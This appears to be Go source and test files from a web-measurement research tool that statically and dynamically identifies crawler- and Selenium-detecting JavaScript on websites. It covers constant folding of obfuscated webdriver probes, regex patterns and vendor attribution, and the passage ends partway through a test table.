// ---- constant folding ----

// absKind classifies a folded abstract value.
type absKind int

const (
	absNone absKind = iota
	absStr          // a known string (or stringified primitive)
	absObj          // a known global object: "navigator", "window", …
)

// absValue is the result of folding an expression without executing it.
// wasString distinguishes genuine string construction from stringified
// numbers, so "+" only folds as concatenation when a string is involved.
type absValue struct {
	kind      absKind
	str       string
	obj       string
	wasString bool
}

func absString(s string) absValue { return absValue{kind: absStr, str: s, wasString: true} }
func absGlobal(name string) absValue {
	return absValue{kind: absObj, obj: name}
}

// globalObjects maps identifier names to the abstract global they denote.
// self and globalThis alias window.
var globalObjects = map[string]string{
	"navigator":  "navigator",
	"window":     "window",
	"self":       "window",
	"globalThis": "window",
	"document":   "document",
	"screen":     "screen",
	"Object":     "Object",
	"Function":   "Function",
	"String":     "String",
}

// tamperWalker carries the two-pass state: pass 1 collects single-assignment
// variable initialisers (anything reassigned, incremented, shadowed or bound
// by a loop/function is tainted and never folded); pass 2 walks the tree
// applying rules, folding through the collected bindings on demand.
type tamperWalker struct {
	prog      *minjs.Program
	inits     map[string]minjs.Node
	tainted   map[string]bool
	resolved  map[string]absValue
	resolving map[string]bool
	seen      map[Finding]bool
	findings  []Finding
	loopDepth int
	catchVars map[string]bool
}

func newTamperWalker(prog *minjs.Program) *tamperWalker {
	w := &tamperWalker{
		prog:      prog,
		inits:     map[string]minjs.Node{},
		tainted:   map[string]bool{},
		resolved:  map[string]absValue{},
		resolving: map[string]bool{},
		seen:      map[Finding]bool{},
		catchVars: map[string]bool{},
	}
	w.collect()
	return w
}

// collect is pass 1: record candidate constant bindings and taint every name
// that is written more than once or bound dynamically. Scoping is ignored —
// a name declared twice anywhere in the script is tainted, a deliberate
// over-approximation that keeps folding sound.
func (w *tamperWalker) collect() {
	taint := func(name string) { w.tainted[name] = true }
	bind := func(name string, init minjs.Node) {
		if init == nil {
			taint(name)
			return
		}
		if _, dup := w.inits[name]; dup {
			taint(name)
			return
		}
		w.inits[name] = init
	}
	minjs.Walk(w.prog, func(n minjs.Node) bool {
		switch x := n.(type) {
		case *minjs.VarDecl:
			for i, name := range x.Names {
				var init minjs.Node
				if i < len(x.Inits) {
					init = x.Inits[i]
				}
				bind(name, init)
			}
		case *minjs.AssignExpr:
			if id, ok := x.Target.(*minjs.Ident); ok {
				taint(id.Name)
			}
		case *minjs.UnaryExpr:
			if x.Op == "++" || x.Op == "--" {
				if id, ok := x.X.(*minjs.Ident); ok {
					taint(id.Name)
				}
			}
		case *minjs.PostfixExpr:
			if id, ok := x.X.(*minjs.Ident); ok {
				taint(id.Name)
			}
		case *minjs.ForInStmt:
			taint(x.Name)
		case *minjs.FuncDecl:
			if x.Fn != nil {
				taint(x.Fn.Name)
			}
		case *minjs.FuncLit:
			if x.Name != "" {
				taint(x.Name)
			}
			for _, p := range x.Params {
				taint(p)
			}
		case *minjs.TryStmt:
			if x.CatchName != "" {
				taint(x.CatchName)
			}
		}
		return true
	})
}

// resolveName folds the recorded initialiser of a single-assignment name,
// memoised, with a cycle guard for self-referential declarations.
func (w *tamperWalker) resolveName(name string) absValue {
	if w.tainted[name] || w.resolving[name] {
		return absValue{}
	}
	if v, ok := w.resolved[name]; ok {
		return v
	}
	init, ok := w.inits[name]
	if !ok {
		return absValue{}
	}
	w.resolving[name] = true
	v := w.fold(init)
	delete(w.resolving, name)
	w.resolved[name] = v
	return v
}

// fold evaluates an expression abstractly: string literals and their
// concatenations, escape sequences (decoded by the lexer before folding sees
// them), String.fromCharCode over literal codes, ["a","b"].join(sep), alias
// chains through single-assignment variables, and global-object aliases like
// window["navi"+"gator"].
func (w *tamperWalker) fold(n minjs.Node) absValue {
	switch x := n.(type) {
	case *minjs.Literal:
		switch x.Val.Kind {
		case minjs.KindString:
			return absString(x.Val.Str)
		case minjs.KindNumber, minjs.KindBool:
			return absValue{kind: absStr, str: x.Val.ToString()}
		}
	case *minjs.Ident:
		if g, ok := globalObjects[x.Name]; ok && !w.tainted[x.Name] {
			return absGlobal(g)
		}
		return w.resolveName(x.Name)
	case *minjs.ThisExpr:
		// Top-level `this` is the window; inside methods this is an
		// over-approximation we accept.
		return absGlobal("window")
	case *minjs.BinaryExpr:
		if x.Op == "+" {
			l, r := w.fold(x.L), w.fold(x.R)
			if l.kind == absStr && r.kind == absStr && (l.wasString || r.wasString) {
				return absString(l.str + r.str)
			}
		}
	case *minjs.CondExpr:
		t, e := w.fold(x.Then), w.fold(x.Else)
		if t == e {
			return t
		}
	case *minjs.MemberExpr:
		obj := w.fold(x.Obj)
		prop, ok := w.memberProp(x)
		if !ok || obj.kind != absObj {
			return absValue{}
		}
		if obj.obj == "window" {
			switch prop {
			case "navigator", "document", "screen":
				return absGlobal(prop)
			case "window", "self", "globalThis":
				return absGlobal("window")
			case "Object", "Function", "String":
				return absGlobal(prop)
			}
		}
		if obj.obj == "Function" && prop == "prototype" {
			return absGlobal("Function.prototype")
		}
	case *minjs.CallExpr:
		return w.foldCall(x)
	}
	return absValue{}
}

// foldCall folds String.fromCharCode(...literal codes) and
// [..literal strings].join(sep).
func (w *tamperWalker) foldCall(c *minjs.CallExpr) absValue {
	m, ok := c.Fn.(*minjs.MemberExpr)
	if !ok {
		return absValue{}
	}
	prop, ok := w.memberProp(m)
	if !ok {
		return absValue{}
	}
	switch prop {
	case "fromCharCode":
		if w.fold(m.Obj).obj != "String" {
			return absValue{}
		}
		var b strings.Builder
		for _, a := range c.Args {
			lit, ok := a.(*minjs.Literal)
			if !ok || lit.Val.Kind != minjs.KindNumber {
				return absValue{}
			}
			b.WriteRune(rune(int(lit.Val.Num)))
		}
		return absString(b.String())
	case "join":
		arr, ok := m.Obj.(*minjs.ArrayLit)
		if !ok {
			return absValue{}
		}
		sep := ","
		if len(c.Args) > 0 {
			sv := w.fold(c.Args[0])
			if sv.kind != absStr {
				return absValue{}
			}
			sep = sv.str
		}
		parts := make([]string, 0, len(arr.Elems))
		for _, e := range arr.Elems {
			ev := w.fold(e)
			if ev.kind != absStr {
				return absValue{}
			}
			parts = append(parts, ev.str)
		}
		return absString(strings.Join(parts, sep))
	}
	return absValue{}
}

// memberProp resolves the property name of a member access: the literal
// name for dot access, the folded index for computed access.
func (w *tamperWalker) memberProp(m *minjs.MemberExpr) (string, bool) {
	if !m.Computed {
		return m.Name, true
	}
	v := w.fold(m.Index)
	if v.kind == absStr {
		return v.str, true
	}
	return "", false
}

// constructedIndex reports whether a computed member index is built rather
// than written down: anything other than a plain string literal. Only
// constructed indexes on unknown receivers are suspicious — x["webdriver"]
// on an unknown x keeps the legacy bracket-pattern precision.
func constructedIndex(m *minjs.MemberExpr) bool {
	if !m.Computed {
		return false
	}
	lit, ok := m.Index.(*minjs.Literal)
	return !ok || lit.Val.Kind != minjs.KindString
}

// ---- rule application (pass 2) ----

func (w *tamperWalker) emit(rule string, n minjs.Node, detail string) {
	f := Finding{Rule: rule, Line: minjs.Line(n), Detail: detail}
	if w.seen[f] {
		return
	}
	w.seen[f] = true
	w.findings = append(w.findings, f)
}

func (w *tamperWalker) run() []Finding {
	w.visit(w.prog)
	sort.SliceStable(w.findings, func(i, j int) bool {
		a, b := w.findings[i], w.findings[j]
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Rule != b.Rule {
			return a.Rule < b.Rule
		}
		return a.Detail < b.Detail
	})
	return w.findings
}

// visit drives pass 2 with loop-depth and catch-variable context; default
// traversal order comes from minjs.Children.
func (w *tamperWalker) visit(n minjs.Node) {
	if n == nil {
		return
	}
	switch x := n.(type) {
	case *minjs.WhileStmt, *minjs.DoWhileStmt, *minjs.ForStmt:
		w.loopDepth++
		for _, c := range minjs.Children(n) {
			w.visit(c)
		}
		w.loopDepth--
		return
	case *minjs.ForInStmt:
		if !x.Of {
			if obj := w.fold(x.Obj); obj.kind == absObj && (obj.obj == "navigator" || obj.obj == "window") {
				w.emit(RuleHoneyEnumeration, x, "for-in "+obj.obj)
			}
		}
		w.loopDepth++
		for _, c := range minjs.Children(n) {
			w.visit(c)
		}
		w.loopDepth--
		return
	case *minjs.TryStmt:
		if x.Body != nil {
			w.visit(x.Body)
		}
		if x.Catch != nil {
			had := w.catchVars[x.CatchName]
			w.catchVars[x.CatchName] = true
			w.visit(x.Catch)
			if !had {
				delete(w.catchVars, x.CatchName)
			}
		}
		if x.Finally != nil {
			w.visit(x.Finally)
		}
		return
	case *minjs.MemberExpr:
		w.checkMember(x)
	case *minjs.CallExpr:
		w.checkCall(x)
	case *minjs.BinaryExpr:
		w.checkCompare(x)
	case *minjs.Ident:
		for _, m := range OpenWPMMarkers {
			if x.Name == m && !w.tainted[m] {
				w.emit(RuleOpenWPMMarker, x, m)
			}
		}
	}
	for _, c := range minjs.Children(n) {
		w.visit(c)
	}
}

func (w *tamperWalker) checkMember(m *minjs.MemberExpr) {
	prop, propKnown := w.memberProp(m)
	obj := w.fold(m.Obj)

	if propKnown && prop == "webdriver" {
		switch {
		case obj.obj == "navigator":
			w.emit(RuleWebdriverProbe, m, "navigator.webdriver")
		case constructedIndex(m):
			// Property name assembled at runtime on an unknown receiver:
			// the signature regexes cannot see this at all.
			w.emit(RuleWebdriverProbe, m, "constructed-index")
		}
	}
	if propKnown {
		for _, marker := range OpenWPMMarkers {
			if prop == marker {
				w.emit(RuleOpenWPMMarker, m, marker)
			}
		}
	}
	if propKnown && prop == "stack" {
		switch o := m.Obj.(type) {
		case *minjs.Ident:
			if w.catchVars[o.Name] {
				w.emit(RuleStackIntrospection, m, "catch "+o.Name)
			}
		case *minjs.NewExpr:
			if id, ok := o.Ctor.(*minjs.Ident); ok && strings.HasSuffix(id.Name, "Error") {
				w.emit(RuleStackIntrospection, m, "new "+id.Name)
			}
		}
	}
	if propKnown && prop == "toString" && obj.obj == "Function.prototype" {
		w.emit(RuleToStringLeak, m, "Function.prototype.toString")
	}
}

func (w *tamperWalker) checkCall(c *minjs.CallExpr) {
	m, ok := c.Fn.(*minjs.MemberExpr)
	if !ok {
		return
	}
	prop, ok := w.memberProp(m)
	if !ok {
		return
	}
	obj := w.fold(m.Obj)
	switch prop {
	case "indexOf", "includes":
		if len(c.Args) > 0 {
			if a := w.fold(c.Args[0]); a.kind == absStr && a.str == "[native code]" {
				w.emit(RuleToStringLeak, c, prop+` "[native code]"`)
			}
		}
	case "getOwnPropertyDescriptor", "getOwnPropertyDescriptors":
		if obj.obj == "Object" {
			w.emit(RuleDescriptorRead, c, w.descriptorDetail(c))
		}
	case "getOwnPropertyNames", "keys":
		if obj.obj == "Object" && len(c.Args) > 0 {
			if t := w.fold(c.Args[0]); t.obj == "navigator" || t.obj == "window" {
				w.emit(RuleHoneyEnumeration, c, "Object."+prop+" "+t.obj)
			}
		}
	case "getPrototypeOf":
		if obj.obj == "Object" && w.loopDepth > 0 {
			w.emit(RulePrototypeWalk, c, "in-loop")
		}
	}
}

// descriptorDetail names the API whose descriptor is read, when foldable.
func (w *tamperWalker) descriptorDetail(c *minjs.CallExpr) string {
	if len(c.Args) < 2 {
		return ""
	}
	if v := w.fold(c.Args[1]); v.kind == absStr {
		return v.str
	}
	return ""
}

func (w *tamperWalker) checkCompare(b *minjs.BinaryExpr) {
	switch b.Op {
	case "==", "===", "!=", "!==":
	default:
		return
	}
	l, r := w.fold(b.L), w.fold(b.R)
	if (l.kind == absStr && l.str == "[native code]") || (r.kind == absStr && r.str == "[native code]") {
		w.emit(RuleToStringLeak, b, `compare "[native code]"`)
	}
}
