package analysis

import "gullible/internal/openwpm"

// TamperRecorder adapts Analyze onto openwpm.TamperFunc: wire it as
// CrawlConfig.Tamper and every first-seen script body is statically analysed
// at storage time, its findings persisted next to the content table (and,
// when a crawl is recorded, into the bundle). Parsed scripts with no
// findings store nothing — the tamper table holds signal, not bulk.
func TamperRecorder(content string) (openwpm.TamperRecord, bool) {
	rep := Analyze(content)
	if len(rep.Findings) == 0 {
		return openwpm.TamperRecord{}, false
	}
	rec := openwpm.TamperRecord{Parsed: rep.Parsed, Findings: make([]openwpm.TamperFinding, len(rep.Findings))}
	for i, f := range rep.Findings {
		rec.Findings[i] = openwpm.TamperFinding{Rule: f.Rule, Line: f.Line, Detail: f.Detail}
	}
	return rec, true
}
