package analysis

import (
	"gullible/internal/minjs"
	"gullible/internal/openwpm"
	"gullible/internal/scriptcache"
)

// TamperRecorder adapts Analyze onto openwpm.TamperFunc: wire it as
// CrawlConfig.Tamper and every first-seen script body is statically analysed
// at storage time, its findings persisted next to the content table (and,
// when a crawl is recorded, into the bundle). Parsed scripts with no
// findings store nothing — the tamper table holds signal, not bulk.
//
// Analysis goes through the shared script cache: if the browser already
// parsed this body for execution, the cached AST is reused instead of
// parsing a second time, and the resulting report is memoised per content
// hash so repeated bodies across sites are analysed once per process.
func TamperRecorder(content string) (openwpm.TamperRecord, bool) {
	rep := SharedAnalyze(content)
	if len(rep.Findings) == 0 {
		return openwpm.TamperRecord{}, false
	}
	rec := openwpm.TamperRecord{Parsed: rep.Parsed, Findings: make([]openwpm.TamperFinding, len(rep.Findings))}
	for i, f := range rep.Findings {
		rec.Findings[i] = openwpm.TamperFinding{Rule: f.Rule, Line: f.Line, Detail: f.Detail}
	}
	return rec, true
}

// SharedAnalyze is Analyze backed by the process-wide script cache: the AST
// comes from the execution path's parse when available, and each unique
// script body is analysed at most once per process.
func SharedAnalyze(src string) TamperReport {
	rep := scriptcache.Shared.Tamper(src, func(s string, prog *minjs.Program) any {
		return AnalyzeProgram(s, prog)
	})
	return rep.(TamperReport)
}
