package analysis

import (
	"strings"
	"testing"
	"testing/quick"

	"gullible/internal/openwpm"
)

func TestDeobfuscateHexEscapes(t *testing.T) {
	// "\x77\x65\x62..." spells webdriver
	obf := `var p = "\x77\x65\x62\x64\x72\x69\x76\x65\x72"; navigator[p];`
	clean := Deobfuscate(obf)
	if !strings.Contains(clean, "webdriver") {
		t.Errorf("hex escapes not decoded: %q", clean)
	}
	// unicode escapes
	if got := Deobfuscate(`"web"`); !strings.Contains(got, "web") {
		t.Errorf("unicode escapes not decoded: %q", got)
	}
}

func TestDeobfuscateStripsComments(t *testing.T) {
	src := "var a = 1; // webdriver in a comment\n/* jsInstruments */ var b = 2;"
	clean := Deobfuscate(src)
	if strings.Contains(clean, "webdriver") || strings.Contains(clean, "jsInstruments") {
		t.Errorf("comments not stripped: %q", clean)
	}
	if !strings.Contains(clean, "var a = 1") || !strings.Contains(clean, "var b = 2") {
		t.Errorf("code damaged: %q", clean)
	}
	// strings containing comment markers survive
	src2 := `var url = "https://x.com/path"; navigator.webdriver;`
	if got := Deobfuscate(src2); !strings.Contains(got, "https://x.com/path") {
		t.Errorf("string literal damaged: %q", got)
	}
}

func TestStaticPatterns(t *testing.T) {
	cases := []struct {
		src     string
		pattern string
		want    bool
	}{
		{"if (navigator.webdriver) report();", "navigator.webdriver", true},
		{`if (navigator["webdriver"]) report();`, `navigator\[["']webdriver["']\]`, true},
		{`if (navigator['webdriver']) report();`, `navigator\[["']webdriver["']\]`, true},
		{"var selenium_webdriver_port = 4444;", "navigator.webdriver", false},
		{"var x = my_webdriver_tool;", "(?<!_|-)webdriver(?!_|-)", false},
		{"check(webdriver)", "(?<!_|-)webdriver(?!_|-)", true},
		{"typeof window.getInstrumentJS", "getInstrumentJS", true},
	}
	byName := map[string]Pattern{}
	for _, p := range StaticPatterns {
		byName[p.Name] = p
	}
	for _, c := range cases {
		p, ok := byName[c.pattern]
		if !ok {
			t.Fatalf("pattern %q missing", c.pattern)
		}
		if got := p.Match(c.src); got != c.want {
			t.Errorf("pattern %q on %q = %v, want %v", c.pattern, c.src, got, c.want)
		}
	}
}

func TestAnalyzeStaticClassification(t *testing.T) {
	r := AnalyzeStatic("if (navigator.webdriver === true) { cloak(); }")
	if !r.SeleniumDetector {
		t.Error("direct webdriver probe not classified")
	}
	// obfuscated probe via bracket access with hex escapes
	r = AnalyzeStatic(`if (navigator["\x77\x65\x62\x64\x72\x69\x76\x65\x72"]) cloak();`)
	if !r.SeleniumDetector {
		t.Error("obfuscated webdriver probe not classified after deobfuscation")
	}
	// the naive substring alone is not enough
	r = AnalyzeStatic("var webdriverTutorialURL = 1;")
	if r.SeleniumDetector {
		t.Error("false positive on incidental 'webdriver' substring")
	}
	// OpenWPM markers
	r = AnalyzeStatic(`if (typeof window.getInstrumentJS === "function") flagOpenWPM();`)
	if len(r.OpenWPMProps) != 1 || r.OpenWPMProps[0] != "getInstrumentJS" {
		t.Errorf("OpenWPM props = %v", r.OpenWPMProps)
	}
}

func mkCall(script, symbol string) openwpm.JSCall {
	return openwpm.JSCall{TopURL: "https://site.com/", ScriptURL: script, Symbol: symbol, Operation: "get"}
}

func TestAnalyzeDynamicClassification(t *testing.T) {
	honey := []string{"zxaaaa", "zxbbbb"}
	calls := []openwpm.JSCall{
		// direct detector: probes webdriver, no iteration
		mkCall("https://cdn.det.com/bot.js", "Navigator.webdriver"),
		mkCall("https://cdn.det.com/bot.js", "Navigator.userAgent"),
		// fingerprinting iterator: touches everything incl. honey props
		mkCall("https://fp.com/fp.js", "Navigator.webdriver"),
		mkCall("https://fp.com/fp.js", "honey:zxaaaa"),
		mkCall("https://fp.com/fp.js", "honey:zxbbbb"),
		// innocuous script
		mkCall("https://site.com/app.js", "Screen.width"),
		// OpenWPM-specific detector
		mkCall("https://cheqzone.com/cz.js", "window.getInstrumentJS"),
	}
	res := AnalyzeDynamic(calls, honey, func(url string) bool { return false })
	byURL := map[string]DynamicScript{}
	for _, r := range res {
		byURL[r.URL] = r
	}
	if byURL["https://cdn.det.com/bot.js"].Class != ClassSeleniumDetector {
		t.Error("direct probe not classified as detector")
	}
	if byURL["https://fp.com/fp.js"].Class != ClassInconclusive {
		t.Error("iterator not classified as inconclusive")
	}
	if !byURL["https://fp.com/fp.js"].Iterator {
		t.Error("iterator not recognised via honey properties")
	}
	if c := byURL["https://site.com/app.js"].Class; c != ClassNone {
		t.Errorf("innocuous script classified as %v", c)
	}
	cz := byURL["https://cheqzone.com/cz.js"]
	if cz.Class != ClassSeleniumDetector || len(cz.OpenWPMProps) != 1 {
		t.Errorf("OpenWPM-marker probe: class=%v props=%v", cz.Class, cz.OpenWPMProps)
	}

	// an iterator that static analysis ALSO flags is a detector
	res = AnalyzeDynamic(calls, honey, func(url string) bool {
		return url == "https://fp.com/fp.js"
	})
	for _, r := range res {
		if r.URL == "https://fp.com/fp.js" && r.Class != ClassSeleniumDetector {
			t.Error("static-confirmed iterator should be a detector")
		}
	}
}

func TestAttributeFirstParty(t *testing.T) {
	cases := map[string]string{
		"https://shop.com/akam/11/3f9a1c":                         ProviderAkamai,
		"https://bank.com/_Incapsula_Resource?SWJIYLWA=1":         ProviderIncapsula,
		"https://news.com/cdn-cgi/bm/cv/2172558837/api.js":        ProviderCloudflare,
		"https://x.com/ab12cd34/init.js":                          ProviderPerimeterX,
		"https://y.com/assets/0123456789abcdef0123456789abcdef":   ProviderUnknown,
		"https://y.com/static/0123456789abcdef0123456789abcdef12": ProviderUnknown,
		"https://clean.com/js/app.js":                             ProviderNone,
	}
	for url, want := range cases {
		if got := AttributeFirstParty(url); got != want {
			t.Errorf("AttributeFirstParty(%q) = %q, want %q", url, got, want)
		}
	}
}

func TestClusterFirstPartySpreadsByContentHash(t *testing.T) {
	akamaiBody := "akamai detector body"
	scripts := []FirstPartyScript{
		{Site: "shop.com", URL: "https://shop.com/akam/11/x", Content: akamaiBody},
		// identical content, unrecognisable path → attributed via hash
		{Site: "other.com", URL: "https://other.com/js/bundle.js", Content: akamaiBody},
		{Site: "bank.com", URL: "https://bank.com/_Incapsula_Resource?x", Content: "incapsula body"},
	}
	counts := ClusterFirstParty(scripts)
	if counts[ProviderAkamai] != 2 {
		t.Errorf("Akamai sites = %d, want 2", counts[ProviderAkamai])
	}
	if counts[ProviderIncapsula] != 1 {
		t.Errorf("Incapsula sites = %d, want 1", counts[ProviderIncapsula])
	}
}

func TestQuickDeobfuscateIdempotent(t *testing.T) {
	f := func(s string) bool {
		if len(s) > 200 {
			s = s[:200]
		}
		once := Deobfuscate(s)
		twice := Deobfuscate(once)
		// decoding escapes can produce new comment markers only from data
		// bytes; idempotence holds for escape-free inputs
		if !strings.Contains(once, "\\x") && !strings.Contains(once, "\\u") &&
			!strings.Contains(once, "/") {
			return once == twice
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
