// Package analysis implements the paper's two bot-detector identification
// methods (Sec. 4.1): static analysis of collected JavaScript (with
// deobfuscation preprocessing and the Appendix-B pattern set) and dynamic
// analysis of recorded JavaScript calls (with honey-property iterator
// handling), plus the first-party detector attribution of Appendix A.
package analysis

import (
	"regexp"
	"strconv"
	"strings"
)

// Deobfuscate undoes straightforward obfuscation before pattern matching:
// hex and unicode string escapes are decoded and comments removed
// (Sec. 4.1.3 "Preprocessing for static analysis").
func Deobfuscate(src string) string {
	src = stripComments(src)
	src = decodeEscapes(src)
	return src
}

func stripComments(src string) string {
	var b strings.Builder
	b.Grow(len(src))
	for i := 0; i < len(src); {
		c := src[i]
		switch {
		case c == '/' && i+1 < len(src) && src[i+1] == '/':
			for i < len(src) && src[i] != '\n' {
				i++
			}
		case c == '/' && i+1 < len(src) && src[i+1] == '*':
			i += 2
			for i+1 < len(src) && !(src[i] == '*' && src[i+1] == '/') {
				i++
			}
			i += 2
			if i > len(src) {
				i = len(src)
			}
		case c == '"' || c == '\'':
			// copy string literals verbatim (comments inside don't count)
			q := c
			b.WriteByte(c)
			i++
			for i < len(src) && src[i] != q {
				if src[i] == '\\' && i+1 < len(src) {
					b.WriteByte(src[i])
					i++
				}
				b.WriteByte(src[i])
				i++
			}
			if i < len(src) {
				b.WriteByte(q)
				i++
			}
		default:
			b.WriteByte(c)
			i++
		}
	}
	return b.String()
}

func decodeEscapes(src string) string {
	var b strings.Builder
	b.Grow(len(src))
	for i := 0; i < len(src); {
		if src[i] == '\\' && i+3 < len(src) && src[i+1] == 'x' {
			if n, err := strconv.ParseUint(src[i+2:i+4], 16, 8); err == nil {
				b.WriteByte(byte(n))
				i += 4
				continue
			}
		}
		if src[i] == '\\' && i+5 < len(src) && src[i+1] == 'u' {
			if n, err := strconv.ParseUint(src[i+2:i+6], 16, 32); err == nil {
				b.WriteRune(rune(n))
				i += 6
				continue
			}
		}
		b.WriteByte(src[i])
		i++
	}
	return b.String()
}

// Pattern is one static-analysis pattern (Appendix B, Table 13).
type Pattern struct {
	Name string
	// HasFalsePositives records the paper's Table 13 finding for this
	// pattern.
	HasFalsePositives bool
	match             func(src string) bool
}

// Match tests a (preprocessed) script.
func (p Pattern) Match(src string) bool { return p.match(src) }

var reBracketWebdriver = regexp.MustCompile(`navigator\[["']webdriver["']\]`)

// StaticPatterns is the evaluated pattern set of Table 13, in order.
var StaticPatterns = []Pattern{
	{Name: "webdriver", HasFalsePositives: true,
		match: func(s string) bool { return strings.Contains(s, "webdriver") }},
	{Name: "instrumentFingerprintingApis",
		match: func(s string) bool { return strings.Contains(s, "instrumentFingerprintingApis") }},
	{Name: "getInstrumentJS",
		match: func(s string) bool { return strings.Contains(s, "getInstrumentJS") }},
	{Name: "jsInstruments",
		match: func(s string) bool { return strings.Contains(s, "jsInstruments") }},
	{Name: "(?<!_|-)webdriver(?!_|-)", HasFalsePositives: true,
		match: matchWebdriverNoSnake},
	{Name: "navigator.webdriver",
		match: func(s string) bool { return strings.Contains(s, "navigator.webdriver") }},
	{Name: `navigator\[["']webdriver["']\]`,
		match: func(s string) bool { return reBracketWebdriver.MatchString(s) }},
}

// matchWebdriverNoSnake emulates the lookaround pattern: "webdriver" not
// preceded or followed by '_' or '-'.
func matchWebdriverNoSnake(s string) bool {
	for i := 0; ; {
		j := strings.Index(s[i:], "webdriver")
		if j < 0 {
			return false
		}
		j += i
		okBefore := j == 0 || (s[j-1] != '_' && s[j-1] != '-')
		after := j + len("webdriver")
		okAfter := after >= len(s) || (s[after] != '_' && s[after] != '-')
		if okBefore && okAfter {
			return true
		}
		i = j + 1
	}
}

// OpenWPMMarkers are the properties unique to OpenWPM's JS instrument.
var OpenWPMMarkers = []string{"jsInstruments", "instrumentFingerprintingApis", "getInstrumentJS"}

// StaticResult is the static classification of one script.
type StaticResult struct {
	SeleniumDetector bool     // context-aware webdriver access
	OpenWPMProps     []string // OpenWPM markers referenced
	PatternHits      []string
	// Tamper is the AST-grade report behind the classification (tamper.go).
	Tamper TamperReport
}

// AnalyzeStatic classifies a script. The AST tamper pass (tamper.go) is
// primary: SeleniumDetector and OpenWPMProps come from its rule hits, which
// fold constructed property names the regexes cannot see. The Table 13
// pattern hits are still computed over the deobfuscated source — they are
// the paper's evaluated artifact — and double as the fallback signal when a
// script does not parse.
func AnalyzeStatic(src string) StaticResult {
	clean := Deobfuscate(src)
	var r StaticResult
	for _, p := range StaticPatterns {
		if p.Match(clean) {
			r.PatternHits = append(r.PatternHits, p.Name)
		}
	}
	r.Tamper = Analyze(src)
	r.SeleniumDetector = r.Tamper.Has(RuleWebdriverProbe)
	markers := map[string]bool{}
	for _, f := range r.Tamper.Findings {
		if f.Rule == RuleOpenWPMMarker {
			markers[f.Detail] = true
		}
	}
	for _, m := range OpenWPMMarkers {
		if markers[m] {
			r.OpenWPMProps = append(r.OpenWPMProps, m)
		}
	}
	return r
}
