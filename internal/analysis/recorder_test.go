package analysis

import (
	"reflect"
	"testing"

	"gullible/internal/minjs"
	"gullible/internal/scriptcache"
)

// tamperGoldenSrcs covers each rule plus obfuscated variants, an unparsable
// body (regex fallback) and a clean body.
var tamperGoldenSrcs = []string{
	`var w = navigator.webdriver; if (w) { document.title = "bot" }`,
	`var n = "web" + "driver"; var v = navigator[n];`,
	`if (window.navigator["\u0077ebdriver"]) {}`,
	`var d = Object.getOwnPropertyDescriptor(navigator, "plugins");`,
	`if (String(fn).indexOf("[native code]") < 0) { alert(1) }`,
	`try { null.x } catch (e) { var s = e.stack; }`,
	`for (var k in navigator) { probe(k) }`,
	`while (o) { o = Object.getPrototypeOf(o) }`,
	`var x = instrumentFingerprintingData;`,
	`console.log("benign analytics", location.href)`,
	`var ] = broken syntax navigator.webdriver`,
}

// TestAnalyzeProgramGolden is the double-parse fix's golden test: analysing
// a program parsed under its fetch URL (the execution path's AST) must yield
// a byte-identical TamperReport to the standalone Analyze parse.
func TestAnalyzeProgramGolden(t *testing.T) {
	for _, src := range tamperGoldenSrcs {
		golden := Analyze(src)
		prog, err := minjs.Parse(src, "https://cdn.tracker.test/fp.js")
		if err != nil {
			// unparsable body: AnalyzeProgram with nil must match fallback
			got := AnalyzeProgram(src, nil)
			if !reflect.DeepEqual(golden, got) {
				t.Errorf("fallback mismatch for %q:\n golden %+v\n got    %+v", src, golden, got)
			}
			continue
		}
		minjs.Compile(prog)
		got := AnalyzeProgram(src, prog)
		if !reflect.DeepEqual(golden, got) {
			t.Errorf("report mismatch for %q:\n golden %+v\n got    %+v", src, golden, got)
		}
	}
}

// TestSharedAnalyzeMatchesAnalyze pins the cached path against the direct
// path, including the memoised second call.
func TestSharedAnalyzeMatchesAnalyze(t *testing.T) {
	for _, src := range tamperGoldenSrcs {
		golden := Analyze(src)
		if got := SharedAnalyze(src); !reflect.DeepEqual(golden, got) {
			t.Errorf("first SharedAnalyze mismatch for %q:\n golden %+v\n got    %+v", src, golden, got)
		}
		if got := SharedAnalyze(src); !reflect.DeepEqual(golden, got) {
			t.Errorf("memoised SharedAnalyze mismatch for %q", src)
		}
	}
	// And via an execution-path warm cache: program first, then analysis.
	src := `var probe = navigator["web" + "driver"];`
	if _, err := scriptcache.Shared.Program(src, "https://site.test/a.js"); err != nil {
		t.Fatal(err)
	}
	if got := SharedAnalyze(src); !reflect.DeepEqual(Analyze(src), got) {
		t.Errorf("warm-cache SharedAnalyze diverged: %+v", got)
	}
}
