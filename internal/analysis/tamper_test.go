package analysis

import (
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

// The canonical blind spot: a concat-obfuscated probe with an aliased
// receiver. The legacy regex pass must miss it; the AST pass must flag it
// with the right source position.
const concatProbe = `var p = "web" + "dri" + "ver";
var n = window["navi" + "gator"];
if (n[p] === true) { document.title = "bot"; }`

func TestConcatProbeEvadesRegexButNotAST(t *testing.T) {
	clean := Deobfuscate(concatProbe)
	// Legacy pass: every webdriver-specific pattern misses.
	if strings.Contains(clean, "navigator.webdriver") {
		t.Fatal("regex precondition: dot pattern unexpectedly matches")
	}
	if reBracketWebdriver.MatchString(clean) {
		t.Fatal("regex precondition: bracket pattern unexpectedly matches")
	}
	if matchWebdriverNoSnake(clean) {
		t.Fatal("regex precondition: no-snake pattern unexpectedly matches")
	}

	rep := Analyze(concatProbe)
	if !rep.Parsed {
		t.Fatal("probe should parse")
	}
	if !rep.Has(RuleWebdriverProbe) {
		t.Fatalf("AST pass missed the concat-obfuscated probe: %+v", rep.Findings)
	}
	for _, f := range rep.Findings {
		if f.Rule == RuleWebdriverProbe && f.Line != 3 {
			t.Errorf("probe finding on line %d, want 3", f.Line)
		}
	}

	// And the unified entry point classifies it as a Selenium detector.
	if r := AnalyzeStatic(concatProbe); !r.SeleniumDetector {
		t.Error("AnalyzeStatic should classify the concat probe as a detector")
	}
}

func TestWebdriverProbeVariants(t *testing.T) {
	cases := []struct {
		name string
		src  string
		want bool
		line int
	}{
		{"dot access", `if (navigator.webdriver) { x(); }`, true, 1},
		{"bracket literal", `navigator["webdriver"];`, true, 1},
		{"hex escapes", `navigator["\x77\x65\x62\x64\x72\x69\x76\x65\x72"];`, true, 1},
		{"unicode escapes", "navigator[\"\\u0077ebdriver\"];", true, 1},
		{"fromCharCode", `var k = String.fromCharCode(119,101,98,100,114,105,118,101,114);
navigator[k];`, true, 2},
